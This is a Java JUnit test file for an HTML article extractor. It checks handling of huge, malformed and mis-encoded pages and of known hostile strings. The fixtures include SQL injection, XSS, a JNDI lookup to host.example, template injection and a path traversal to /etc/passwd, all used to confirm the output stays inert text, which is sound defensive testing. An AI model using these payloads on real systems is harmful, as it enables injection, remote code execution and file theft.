package org.copydesk.extract;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.Charset;
import java.time.Duration;
import java.util.List;
import org.copydesk.extract.text.TextCleaner;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Input that is odd on purpose: sizes, charsets that are none, strings that break things. */
class HostileInputTest {
  private static final Duration LIMIT = Duration.ofSeconds(30);
  private static final String SENTENCE =
      "The ferry to the outer islands sails again after three weeks of storms and repairs. ";

  private final Extractor extractor = Extractor.create();

  /** A megabyte of what cleaning looks at most closely, in time that no square of it would keep. */
  @ParameterizedTest
  @ValueSource(strings = {"a", " ", "(", "&", "\u00AD", "\u0301", "\n", ".", "- ", "© ", "“"})
  void cleaningIsLinear(String piece) {
    String text = piece.repeat(1_000_000 / piece.length());
    long begun = System.nanoTime();

    String clean = TextCleaner.clean(text);
    Extraction plain = extractor.extractText(TextInput.of(text));

    assertThat(clean.length()).isLessThanOrEqualTo(text.length());
    assertThat(plain).isNotInstanceOf(Extraction.Failed.class);
    assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(LIMIT);
  }

  @Test
  void twoMillionReferencesAreRefusedByTheirSize() {
    assertThat(failureOf("<p>" + "&amp;".repeat(2_000_000)))
        .isEqualTo(Extraction.Failure.TOO_LARGE);
  }

  @Test
  void anAttributeOfTwentyMegabytesIsRefusedByItsSize() {
    assertThat(failureOf("<p title='" + "a".repeat(20 << 20) + "'>text</p>"))
        .isEqualTo(Extraction.Failure.TOO_LARGE);
  }

  /** Each of them holds the text of all inside: together that would be a gigabyte. */
  @Test
  void textInNestedElementsForBrowsersWithoutScriptsIsReadOnce() {
    String page = "<p>Ferry</p>" + "<noscript>".repeat(500) + SENTENCE.repeat(20_000);
    long begun = System.nanoTime();

    Extraction extraction = extractor.extract(PageInput.of(page));

    assertThat(extraction).isInstanceOf(Extraction.NotArticle.class);
    assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(LIMIT);
  }

  /** No charset can write them: one of them in an output loses the whole of it. */
  @Test
  void halvesOfPairsAreShownAsUnknown() {
    String half = "&#xD800; ferry &#xDC00;";
    String page =
        "<title>%s</title><meta name=description content='%s'><article><h1>%s</h1>%s</article>"
            .formatted(half, half, half, article(half + " "));

    Article found = articleOf(page.getBytes(UTF_8));

    for (String text : List.of(found.headline(), found.description(), found.articleBody())) {
      assertThat(UTF_8.newEncoder().canEncode(text)).as(text).isTrue();
    }
    assertThat(found.notices()).contains(Article.Notice.UNDECODABLE);
  }

  /** The parser fails on it, here in markup that a script's state holds. */
  @Test
  void markupInAScriptsStateThatCannotBeParsedIsPassedOver() {
    String markup = "<p>Ferry sails again to the islands" + "<s><section><p>".repeat(600);
    String page =
        "<h1>Ferry sails again to the islands</h1><script type='application/json'>{\"text\":\""
            + markup
            + "\"}</script><p>Loading</p>";

    assertThat(extractor.extract(PageInput.of(page))).isInstanceOf(Extraction.NotArticle.class);
  }

  /** For those who raise the bound. */
  @ParameterizedTest
  @ValueSource(strings = {"&amp;", "&", "&;", "& ", "&#1;", "&notit;"})
  void millionsOfReferencesAreReadInTime(String reference) {
    Extractor large = Extractor.builder().maxBytes(32 << 20).build();
    String page = article("") + "<p>" + reference.repeat(2_000_000);
    long begun = System.nanoTime();

    Extraction extraction = large.extract(PageInput.of(page).withDeadline(Deadline.after(LIMIT)));

    assertThat(extraction).isNotNull();
    assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(LIMIT.multipliedBy(3));
  }

  @Test
  void aCharsetDeclaredBehindTheFirst1024BytesIsFound() {
    String page =
        "<html><head><!--"
            + " ".repeat(3_000)
            + "--><meta charset=windows-1251><title>x</title>"
            + article("Паром снова ходит на острова. ".repeat(8));

    Article found = articleOf(page.getBytes(Charset.forName("windows-1251")));

    assertThat(found.articleBody()).contains("Паром снова ходит на острова.");
    assertThat(found.notices()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"utf-7", "x-user-defined", "UTF-7", "nothing-known", "utf-16"})
  void aCharsetThatNobodyMayUseIsNotUsed(String charset) {
    String page = "<meta charset=" + charset + ">" + article("+ADw-script+AD4- stays text. ");

    Article found = articleOf(page.getBytes(UTF_8));

    assertThat(found.articleBody()).contains("+ADw-script+AD4- stays text.").contains("ferry");
    assertThat(ArticleHtml.write(found)).doesNotContain("<script");
  }

  @Test
  void bytesOfXUserDefinedAreReadAsWindows1252() {
    String page = "<meta charset=x-user-defined>" + article("Ein Café an der Straße. ");

    Article found = articleOf(page.getBytes(ISO_8859_1));

    assertThat(found.articleBody()).contains("Ein Café an der Straße.");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "undefined",
        "null",
        "-1.00E+02",
        "0xffffffffffffffff",
        "'; DROP TABLE articles; --",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "${jndi:ldap://host.example/a}",
        "{{7*7}} <%= 7*7 %> %n%s%x",
        "../../../etc/passwd%00",
        "Ω≈ç√∫ ˜µ≤≥÷ 田中さん 사회과학원",
        "👩🏽‍💻 👨‍👩‍👧‍👦 🇩🇪",
        "בראשית ברא אלהים",
        "T\u0336e\u0336s\u0336t",
        "e\u0301\u0302\u0303\u0304\u0305"
      })
  void aStringThatBreaksThingsIsTextAndNothingElse(String string) {
    String escaped = ArticleHtml.escape(string);
    String page =
        "<title>%s</title><article><h1>%s</h1>%s</article>"
            .formatted(escaped, escaped, article(escaped + ". "));

    Article found = articleOf(page.getBytes(UTF_8));

    String expected = TextCleaner.clean(string);
    assertThat(found.articleBody()).contains(expected);
    assertThat(found.headline()).isNotEmpty();
    for (String markup : List.of("<img", "<svg", "onerror=alert(1)>")) {
      assertThat(ArticleHtml.write(found)).doesNotContain(markup);
    }
  }

  private static String article(String sentence) {
    return "<p>%s%s</p>".formatted(sentence, SENTENCE.repeat(3)).repeat(4);
  }

  private Article articleOf(byte[] page) {
    Extraction extraction =
        extractor.extract(PageInput.of(page).withDeadline(Deadline.after(LIMIT)));
    assertThat(extraction).isInstanceOf(Extraction.Found.class);
    return ((Extraction.Found) extraction).article();
  }

  private Extraction.Failure failureOf(String page) {
    Extraction extraction = extractor.extract(PageInput.of(page));
    assertThat(extraction).isInstanceOf(Extraction.Failed.class);
    return ((Extraction.Failed) extraction).failure();
  }
}
